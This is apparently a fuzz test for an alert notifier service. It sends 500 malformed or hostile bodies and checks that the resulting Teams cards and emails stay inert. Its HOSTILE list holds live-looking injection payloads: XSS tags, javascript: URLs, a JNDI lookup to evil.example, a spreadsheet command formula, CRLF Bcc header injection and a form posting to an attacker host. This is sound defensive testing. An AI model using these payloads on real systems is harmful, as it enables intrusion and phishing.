// 500 generated malformed or hostile notifier bodies through handleNotify: only 4xx, or 200 for a bare run ID whose
// stored batch (hostile text in every field) is delivered inert: text as typed in TextRuns, nothing escaped.
import { computeAlertBatch, type AlertBatch } from '../../src/alerts/alerts';
import { seededRandom } from '../../sim/faults';
import { adaptiveCardProblems, cardTexts, hasBackslashEscape, markdownTexts } from './cardValidation';
import { resetSim, startNotifierEnv, type NotifierEnv } from './notifierHarness';
import { cluster, finding, report } from './reports';

let env: NotifierEnv;
beforeAll(async () => {
  env = await startNotifierEnv();
}, 60_000);
afterAll(async () => {
  await env?.stop();
});

const HOSTILE = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '[click me](https://evil.example/phish)',
  '![x](https://evil.example/pixel.png)',
  '"}]},{"type":"Action.OpenUrl","url":"https://evil.example"},{"x":"',
  '{"type":"AdaptiveCard","body":[{"type":"Image","url":"https://evil.example"}]}',
  '**URGENT** _act now_ `rm -rf /` # heading\n- list\n> quote',
  '&lt;script&gt; &amp; &#60;b&#62;',
  '${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %>',
  "=cmd|' /C calc'!A0",
  'https://evil.example/login',
  '\u202eevil\u0000\u0007\r\nBcc: attacker@evil.example',
  '</td></tr></table><form action=https://evil.example><input name=p>',
  '<a href="javascript:alert(1)">x</a>',
];

function baseBatch(runId: string, rnd: () => number): AlertBatch {
  const pick = () => HOSTILE[Math.floor(rnd() * HOSTILE.length)];
  const clusters = Array.from({ length: 1 + Math.floor(rnd() * 4) }, (_, i) =>
    cluster(
      `${pick()}-${i}`,
      [
        finding('aks_version_supported', 'fail', 'critical', {
          message: pick(),
          remediation: `az aks upgrade --name '${pick()}'`,
          title: pick(),
        }),
        finding('aks_local_accounts_disabled', 'fail', 'high'),
      ],
      { resourceGroup: pick().slice(0, 200), tags: { owner: rnd() < 0.5 ? pick() : `owner${i}@contoso.com` } },
    ),
  );
  return computeAlertBatch(undefined, report(runId, clusters), { minSeverity: 'high' });
}

const WRONG_VALUES: unknown[] = [null, 0, -1, 1.5, true, 'x', '', [], {}, [1, 2], { a: 1 }, 'x'.repeat(70_000), 1e308];
const PATHS = [
  ['schemaVersion'],
  ['runId'],
  ['generatedAt'],
  ['reportUrl'],
  ['summary'],
  ['summary', 'clusters'],
  ['summary', 'status', 'fail'],
  ['summary', 'failBySeverity', 'critical'],
  ['alerts'],
  ['alerts', 0],
  ['alerts', 0, 'key'],
  ['alerts', 0, 'transition'],
  ['alerts', 0, 'severity'],
  ['alerts', 0, 'clusterName'],
  ['alerts', 0, 'message'],
  ['alerts', 0, 'ownerEmail'],
  ['part'],
  ['part', 'index'],
];

function setPath(target: Record<string, unknown>, path: (string | number)[], value: unknown): void {
  type Node = Record<string | number, unknown>;
  let node = target as Node;
  for (const step of path.slice(0, -1)) node = (node[step] ??= {}) as Node;
  node[path[path.length - 1]] = value;
}

function deep(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

function generate(
  i: number,
  rnd: () => number,
): { body: string | Uint8Array; contentType?: string; hostileValid?: boolean; store?: AlertBatch } {
  const kind = i % 10;
  const runId = `fuzz-${i}`;
  switch (kind) {
    case 0: {
      // not JSON at all, truncated JSON, or bytes that are not UTF-8
      const valid = JSON.stringify(baseBatch(runId, rnd));
      const choice = Math.floor(rnd() * 4);
      if (choice === 0) return { body: valid.slice(0, Math.floor(rnd() * valid.length)) };
      if (choice === 1) return { body: new Uint8Array(Array.from({ length: 64 }, () => Math.floor(rnd() * 256))) };
      if (choice === 2) return { body: '<html><body>not json</body></html>' };
      return { body: '' };
    }
    case 1: {
      const tops = [
        'null',
        '0',
        '"batch"',
        '[]',
        'true',
        '[{"runId":"x"}]',
        '{"__proto__":{"polluted":true}}',
        '{"constructor":{"prototype":{}}}',
        '{"runId":"never-stored"}',
        '{"runId":"../../x"}',
        '{"runId":""}',
        '{"runId":["a"]}',
      ];
      return { body: tops[Math.floor(rnd() * tops.length)] };
    }
    case 2:
    case 3: {
      const b = JSON.parse(JSON.stringify(baseBatch(runId, rnd)));
      setPath(b, PATHS[Math.floor(rnd() * PATHS.length)], WRONG_VALUES[Math.floor(rnd() * WRONG_VALUES.length)]);
      return { body: JSON.stringify(b) };
    }
    case 4: {
      const choice = Math.floor(rnd() * 3);
      if (choice === 0) return { body: `{"runId":"${'x'.repeat(1024 * 1024 + 10)}"}` };
      const b = JSON.parse(JSON.stringify(baseBatch(runId, rnd)));
      if (choice === 1) b.alerts[0].clusterName = '<b>'.repeat(5000);
      else b.alerts = Array.from({ length: 6000 }, () => b.alerts[0]);
      return { body: JSON.stringify(b) };
    }
    case 5: {
      const depth = [100, 10_000, 200_000][Math.floor(rnd() * 3)];
      const nested = deep(depth, rnd() < 0.5 ? 'array' : 'object');
      const b = JSON.parse(JSON.stringify(baseBatch(runId, rnd)));
      const where = Math.floor(rnd() * 3);
      if (where === 0) return { body: nested };
      const text = JSON.stringify(b);
      return where === 1
        ? { body: text.replace('"summary":', `"extra":${nested},"summary":`) }
        : { body: text.replace(/"clusterName":"[^"]*"/, `"clusterName":${nested}`) };
    }
    case 6: {
      const b = JSON.parse(JSON.stringify(baseBatch(runId, rnd)));
      const bad = [
        () => (b.reportUrl = 'javascript:alert(1)'),
        () => (b.reportUrl = 'https://evil.example/"><script>'),
        () => (b.schemaVersion = 2),
        () => (b.generatedAt = 'yesterday'),
        () => (b.alerts[0].extra = '<script>'),
        () => (b.part = { index: 0, count: 1 }),
      ];
      bad[Math.floor(rnd() * bad.length)]();
      return { body: JSON.stringify(b), contentType: rnd() < 0.2 ? 'text/plain' : undefined };
    }
    case 9: {
      const b = JSON.parse(JSON.stringify(baseBatch(runId, rnd)));
      const enums = [
        ['alerts', 0, 'severity'],
        ['alerts', 0, 'transition'],
      ];
      setPath(b, enums[Math.floor(rnd() * 2)], HOSTILE[Math.floor(rnd() * HOSTILE.length)]);
      return { body: JSON.stringify(b) };
    }
    default:
      // 20%: a bare run ID whose stored batch carries HTML, Markdown and card-JSON injections in every text field
      return { body: JSON.stringify({ runId }), hostileValid: true, store: baseBatch(runId, rnd) };
  }
}

const ALLOWED_MAIL_TAGS = new Set([
  'html',
  'head',
  'meta',
  'title',
  'body',
  'h2',
  'p',
  'a',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'br',
  'small',
  'code',
]);

it('500 malformed or hostile bodies: only 4xx or inert 200s, never a 5xx', async () => {
  resetSim(env);
  const rnd = seededRandom(20261127);
  const statuses: Record<number, number> = {};
  let hostileDelivered = 0;
  for (let i = 0; i < 500; i += 1) {
    const { body, contentType, hostileValid, store } = generate(i, rnd);
    if (store) await env.record(store);
    const r = await env.post(body, contentType ? { 'content-type': contentType } : {});
    statuses[r.status] = (statuses[r.status] ?? 0) + 1;
    if (r.status >= 500) throw new Error(`body #${i} gave ${r.status}: ${JSON.stringify(r.body).slice(0, 300)}`);
    if (r.status >= 400) {
      expect(r.body.error).toEqual({ code: expect.any(String), message: expect.any(String) });
    } else {
      expect(r.status).toBe(200);
      if (hostileValid) hostileDelivered += 1;
    }
    if (hostileValid) expect(r.status).toBe(200);
  }
  expect(Object.keys(statuses).every((s) => [200, 400, 404, 413, 415].includes(Number(s)))).toBe(true);
  // Everything but the 100 bare run IDs is refused: content bodies are over the 4 KB a run ID needs (413) or not
  // a bare run ID (400), and unknown runs are 404.
  expect(statuses[400]).toBeGreaterThan(100);
  expect(statuses[413]).toBeGreaterThan(0);
  expect(statuses[404]).toBeGreaterThan(0);
  expect((statuses[400] ?? 0) + (statuses[404] ?? 0) + (statuses[413] ?? 0) + (statuses[415] ?? 0)).toBe(400);
  expect(hostileDelivered).toBe(100);

  const cards = env.local.sim.captured.teams as Array<{ attachments: Array<{ content: Record<string, unknown> }> }>;
  // Every stored hostile batch gave one card, and nothing else did: a body never carries content.
  expect(cards.length).toBe(100);
  expect(statuses[200]).toBe(100);
  for (const card of cards) {
    const content = card.attachments[0].content;
    expect(adaptiveCardProblems(content).problems).toEqual([]);
    expect(content.actions).toEqual([
      { type: 'Action.OpenUrl', title: 'Open the report', url: env.settings.reportUrl },
    ]);
    const types = JSON.stringify(content).match(/"type":"[^"]+"/g) ?? [];
    expect(new Set(types)).toEqual(
      new Set([
        '"type":"AdaptiveCard"',
        '"type":"TextBlock"',
        '"type":"RichTextBlock"',
        '"type":"TextRun"',
        '"type":"FactSet"',
        '"type":"Container"',
        '"type":"Action.OpenUrl"',
      ]),
    );
    for (const text of cardTexts(content)) expect([text, hasBackslashEscape(text)]).toEqual([text, false]);
    // Markdown elements hold only the product's own words and numbers.
    for (const text of markdownTexts(content)) expect(text).toMatch(/^[A-Za-z0-9 :,.()]+$/);
  }
  const mails = env.local.sim.captured.mail;
  expect(mails.length).toBeGreaterThanOrEqual(100);
  // Only the allowed domain (the sender's): hostile owner tags elsewhere were reported, never mailed.
  for (const mail of mails) {
    const to = (mail.message as { toRecipients: { emailAddress: { address: string } }[] }).toRecipients;
    expect(to.map((r) => r.emailAddress.address.endsWith('@contoso.com'))).toEqual([true]);
  }
  for (const mail of mails) {
    const message = mail.message as {
      subject: string;
      body: { content: string };
      toRecipients: { emailAddress: { address: string } }[];
    };
    const tags = [...message.body.content.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)/g)].map((m) => m[1].toLowerCase());
    expect(tags.filter((t) => !ALLOWED_MAIL_TAGS.has(t))).toEqual([]);
    expect(message.body.content.match(/<a /g)?.length ?? 0).toBeLessThanOrEqual(1);
    expect(message.subject).not.toMatch(/[\r\n]/);
    for (const r of message.toRecipients) expect(r.emailAddress.address).toMatch(/^[^\s<>,;]+@[A-Za-z0-9.-]+$/);
  }
}, 300_000);
